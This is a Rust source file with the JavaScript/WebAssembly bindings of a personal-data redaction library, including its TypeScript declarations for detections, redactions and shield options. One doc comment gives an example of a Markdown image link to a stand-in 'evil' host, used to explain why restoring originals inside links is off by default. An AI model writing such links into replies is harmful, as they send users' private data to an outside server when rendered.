//! JavaScript bindings of Tandem.
//!
//! The only crate that says `#[wasm_bindgen]`. It converts JavaScript
//! values to Rust types and back and turns errors into thrown `Error`s; all
//! logic lives in `tandem-core`. Results are plain objects (via
//! `serde-wasm-bindgen`) whose TypeScript types are declared in
//! [`TS_TYPES`]; every offset crossing this boundary is in UTF-16 code
//! units, the unit of JavaScript string indices.
//!
//! Nothing here panics on bad input: strings with unpaired surrogates,
//! unknown entity kinds and oversized inputs are rejected with a message.

#[cfg(feature = "models")]
mod analyzer;
#[cfg(target_arch = "wasm32")]
mod ctors;
#[cfg(all(feature = "models", target_arch = "wasm32"))]
mod kernels;
#[cfg(feature = "models")]
mod model;
mod options;
#[cfg(feature = "seal")]
mod seal;
mod shield;
#[cfg(feature = "models")]
mod speculate;

#[cfg(feature = "models")]
pub use analyzer::{Analyzer, SentenceEncoder};
#[cfg(all(feature = "models", target_arch = "wasm32"))]
pub use kernels::{enable_relaxed_simd, quant_kernel, use_quant_kernel};
#[cfg(feature = "models")]
pub use model::LocalModel;
pub use options::ShieldOptions;
#[cfg(feature = "seal")]
pub use seal::{SealClient, SealedExchange};
pub use shield::{Shield, StreamRestorer};

use wasm_bindgen::prelude::*;

/// TypeScript declarations of the plain objects the bindings return.
#[wasm_bindgen(typescript_custom_section)]
pub const TS_TYPES: &str = r#"
/** A kind of personal data or secret (Presidio's names). */
export type EntityKind =
  | "EMAIL_ADDRESS" | "PHONE_NUMBER" | "CREDIT_CARD" | "IBAN_CODE" | "US_SSN" | "IP_ADDRESS"
  | "URL" | "SECRET" | "DATE_OF_BIRTH" | "PERSON" | "LOCATION" | "ORGANIZATION" | "STREET_ADDRESS";

/** What the shield does with an entity kind. */
export type Action = "redact" | "mask" | "allow";

/** One entity found in a text; offsets are UTF-16 code units (JS string indices). */
export interface Detection {
  kind: EntityKind;
  start: number;
  end: number;
  score: number;
  recognizer: string;
}

/** One entity as redaction handled it. */
export interface RedactedEntity extends Detection {
  action: Action;
  /** What stands in its place in the redacted text. */
  replacement: string;
  redacted_start: number;
  redacted_end: number;
}

/** The result of `Shield.redact`. */
export interface Redaction {
  /** The text safe to send off the device. */
  text: string;
  entities: RedactedEntity[];
}

/** Settings for `new Shield(options)`. Every field is optional. */
export interface ShieldOptions {
  /** Entities scoring below this are ignored (default 0.5). */
  minScore?: number;
  /** Longer inputs are refused with an error (default 32 MiB of UTF-8). */
  maxInputBytes?: number;
  /** Action per entity kind; kinds not listed are redacted. */
  policy?: Partial<Record<EntityKind, Action>>;
  /**
   * Restore originals inside URLs and Markdown link destinations in replies (default false:
   * a model-written `![](https://evil/?q=[EMAIL_1])` would send the original away on render).
   */
  restoreInLinks?: boolean;
  /** Restore originals inside HTML tags in replies (default false). */
  restoreInMarkup?: boolean;
}
"#;

/// Runs the module's static constructors once ([`ctors`]) and installs a
/// panic hook so that a bug shows a readable message in the console.
#[wasm_bindgen(start)]
pub fn start() {
    #[cfg(target_arch = "wasm32")]
    ctors::run_once();
    console_error_panic_hook::set_once();
}
